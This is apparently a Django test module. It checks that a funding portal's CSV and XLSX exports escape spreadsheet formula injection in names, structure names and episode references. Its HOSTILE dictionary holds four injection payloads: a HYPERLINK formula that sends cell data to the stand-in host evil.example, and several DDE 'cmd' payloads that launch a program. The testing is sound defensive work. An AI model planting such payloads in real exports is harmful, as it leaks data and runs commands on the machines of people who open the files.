"""Formula injection through the real exports: a text a user typed (episode reference, names, contact) that a
spreadsheet would run as a formula comes out behind an apostrophe, in every CSV and XLSX the portal produces
(unit checks of ``portal.exports`` are in tests/portal/test_shared_tools.py)."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from funding.periods import Period
from portal.roles import Role
from tests.funding.factories import CampaignFactory, DossierFactory, WaveFactory
from tests.funding.statement_scenarios import GrantScenario, compute
from tests.portal.factories import StructureFactory, agent_of

HOSTILE = {
    "episode": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "delegate_last_name": "+cmd|' /C calc'!A0",
    "delegant_first_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "structure": "-2+3+cmd|' /C calc'!A0",
}


def _hostile_world():
    scenario = GrantScenario()
    (intervention,) = scenario.add("2025-03-01", 1)
    intervention.episode_reference = HOSTILE["episode"]
    intervention.save()
    scenario.delegate.user.last_name = HOSTILE["delegate_last_name"]
    scenario.delegate.user.save()
    scenario.delegant.user.first_name = HOSTILE["delegant_first_name"]
    scenario.delegant.user.save()
    structure = scenario.grant.structure
    structure.name = HOSTILE["structure"]
    structure.save()
    compute(scenario.region, "2025-H1")
    return scenario


def _csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def _xlsx_cells(response) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(body))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                cells.append(cell.value)
    return cells


def _assert_neutralised(cells, *, expected: set[str]) -> None:
    texts = [cell for cell in cells if isinstance(cell, str)]
    raw = [cell for cell in texts if cell in HOSTILE.values()]
    assert raw == [], "a hostile value came out as a formula"
    found = {cell[1:] for cell in texts if cell.startswith("'") and cell[1:] in HOSTILE.values()}
    assert found == expected  # each hostile value is really in this export, neutralised


def test_statement_exports_neutralise_formulas(client):
    scenario = _hostile_world()
    client.force_login(agent_of(scenario.region, Role.FINANCE_OFFICER))
    url = reverse(
        "funding:statement_period_export", kwargs={"region_id": scenario.region.pk, "period": Period(2025, 1)}
    )
    detail_csv = client.get(url, {"format": "csv", "detail": "1"})
    assert detail_csv.status_code == 200
    _assert_neutralised(_csv_cells(detail_csv), expected={HOSTILE["episode"]})
    detail_xlsx = client.get(url, {"format": "xlsx", "detail": "1"})
    assert detail_xlsx.status_code == 200
    _assert_neutralised(_xlsx_cells(detail_xlsx), expected={HOSTILE["episode"], HOSTILE["structure"]})
    summary = client.get(url, {"format": "csv"})
    _assert_neutralised(_csv_cells(summary), expected={HOSTILE["structure"]})


def test_intervention_exports_neutralise_formulas(client):
    scenario = _hostile_world()
    client.force_login(agent_of(scenario.region, Role.FINANCE_OFFICER))
    url = reverse("funding:intervention_export")
    expected = {HOSTILE["episode"], HOSTILE["delegate_last_name"], HOSTILE["delegant_first_name"]}
    as_csv = client.get(url)
    assert as_csv.status_code == 200
    _assert_neutralised(_csv_cells(as_csv), expected=expected)
    as_xlsx = client.get(url, {"format": "xlsx"})
    assert as_xlsx.status_code == 200
    _assert_neutralised(_xlsx_cells(as_xlsx), expected=expected)


def test_dossier_exports_neutralise_formulas(client):
    campaign = CampaignFactory()
    wave = WaveFactory(campaign=campaign)
    structure = StructureFactory(region=campaign.region, name=HOSTILE["structure"])
    DossierFactory(
        wave=wave, structure=structure, submitted=True, answered=True, contact_name=HOSTILE["delegate_last_name"]
    )
    client.force_login(agent_of(campaign.region, Role.INSTRUCTOR))
    expected = {HOSTILE["structure"], HOSTILE["delegate_last_name"]}
    as_csv = client.get(reverse("funding:instruction_export_csv"))
    _assert_neutralised(_csv_cells(as_csv), expected=expected)
    as_xlsx = client.get(reverse("funding:instruction_export_xlsx"))
    _assert_neutralised(_xlsx_cells(as_xlsx), expected=expected)
